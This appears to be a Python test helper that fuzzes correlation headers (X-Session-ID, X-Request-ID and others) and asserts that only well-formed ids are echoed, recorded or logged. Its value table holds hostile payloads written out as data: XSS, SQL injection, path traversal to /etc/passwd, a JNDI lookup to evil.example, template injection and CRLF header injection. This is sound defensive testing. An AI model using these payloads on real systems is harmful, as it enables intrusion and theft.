"""
Header values that nobody honest sends, and what must not become of them.

The grammars are written out here once more, from the table in docs/correlation.md.
"""

from __future__ import annotations

import random
import re
from collections.abc import Callable, Iterable
from typing import Any

Sender = Callable[[dict[str, str]], "str | None"]
"""Sends a request with these headers, and returns the request id that was echoed."""

_FIRST = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
_GRAMMARS = {"session": "_.:-", "request": "_.:+/=@-"}
_LIMIT = 128

_UUID = re.compile(r"[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}")

TABLE = [
    "",
    " ",
    "\t",
    "-",
    ".",
    "_leading",
    "-leading",
    "a" * 128,
    "a" * 129,
    "a" * 8000,
    "é",
    "sess-é",
    "sess\x00id",
    "sess\x7fid",
    "sess\xa0id",
    "sess\x85id",
    "\xa0sess-id",
    "sess-id\xa0",
    "sess id",
    "sess\tid",
    " sess-with-spaces-around ",
    "\tsess-with-tabs-around\t",
    "sess,id",
    "sess-one, sess-two",
    "sess;id",
    'sess"id"',
    "<script>alert(1)</script>",
    "'; DROP TABLE events; --",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%00%0d%0aSet-Cookie:%20a=b",
    "sess%0d%0aX-Evil:%201",
    "%s%s%s%n",
    "{0.__class__}",
    "user@example.com",
    "4242 4242 4242 4242",
    "Bearer eyJhbGciOiJIUzI1NiJ9.e30.secret",
    "proc-00000000-0000-4000-8000-000000000000",
    "00000000-0000-0000-0000-000000000000",
    "urn:uuid:6ba7b810-9dad-11d1-80b4-00c04fd430c8",
    "{6ba7b810-9dad-11d1-80b4-00c04fd430c8}",
    "sess-mm8wlgo0-4f1c9a2e",
    "sess_frontend_123",
    "a/b+c=d@e",
    "null",
    "undefined",
    "\xc3\xa9\xc2\x80\xe2\x80\xae",
    "\xd9\xa1\xd9\xa2\xd9\xa3",
]
"""Values that have made trouble somewhere, and a few that fit."""


def hostile_values(count: int, seed: int = 0) -> list[str]:
    """
    Return the table, and *count* values of the same making; all are Latin-1.

    No line break is among them, and no byte 0 in most: a server refuses these before an
    application sees them, but other carriers may not.
    """
    chance = random.Random(seed)
    letters = _FIRST + "_.:-+/=@ ,;\"'%<>{}$\t\x00\x1b\x7f\x80\x85\xa0\xad\xe9\xff"
    values = []
    for number in range(count):
        kind = chance.randrange(4)
        if kind == 0:  # anything
            size = chance.choice([1, 2, 7, 40, 127, 128, 129, 300])
            value = "".join(chance.choices(letters, k=size))
        elif kind == 1:  # nearly right
            value = f"sess-{number:x}-" + "".join(chance.choices(_FIRST, k=8))
            place = chance.randrange(len(value) + 1)
            value = value[:place] + chance.choice(letters) + value[place:]
        elif kind == 2:  # two of the table
            value = chance.choice(TABLE) + chance.choice(TABLE)
        else:  # right, as long as may be or longer
            value = "".join(chance.choices(_FIRST, k=chance.randrange(120, 137)))
        values.append(value)
    return TABLE + values


def fits(grammar: str, value: str) -> bool:
    """
    Return whether a header's value is an id: of a `session`, or of a `request`.
    """
    allowed = _FIRST + _GRAMMARS[grammar]
    return (
        0 < len(value) <= _LIMIT
        and value[0] in _FIRST
        and all(letter in allowed for letter in value)
    )


def assert_harmless(
    values: Iterable[str],
    send: Sender,
    take_events: Callable[[], list[dict[str, Any]]],
    log_text: Callable[[], str] = str,
) -> int:
    """
    Send each value as every header of ours; assert that only ids are made use of.

    Args:
        values: What to send.

        send: Sends one request, that makes at least one event.

        take_events: Returns the wire events since it was called last.

        log_text: Returns what was logged so far.

    Returns:
        How many of the values were ids of a session.
    """
    count = 0
    for value in values:
        headers = ("X-Session-ID", "X-Request-ID", "X-User-ID", "X-Journey-ID")
        echoed = send(dict.fromkeys(headers, value))
        trimmed = value.strip(" \t")
        events = take_events()
        assert events, f"no event for {value!r}"

        if fits("request", trimmed):
            assert echoed == trimmed
        else:
            assert echoed is not None
            assert _UUID.fullmatch(echoed), f"{echoed!r} was made of {value!r}"

        is_session = fits("session", trimmed)
        count += is_session
        for event in events:
            session_id = event["session.id"]
            if is_session:
                assert session_id == trimmed
            else:
                assert session_id.startswith("srv-"), f"{session_id!r} of {value!r}"
                assert _UUID.fullmatch(session_id[4:])
            # An id may look like a secret in part, which is redacted then.
            told = event["metadata"]["request_id"]
            assert told == echoed or "[redacted]" in told
            assert "user.id" not in event
            assert "gen_ai.journey.id" not in event
        if len(trimmed) > 3 and not fits("request", trimmed):
            assert trimmed not in str(events)
            assert repr(trimmed)[1:-1] not in str(events)
            assert trimmed not in log_text()
    return count
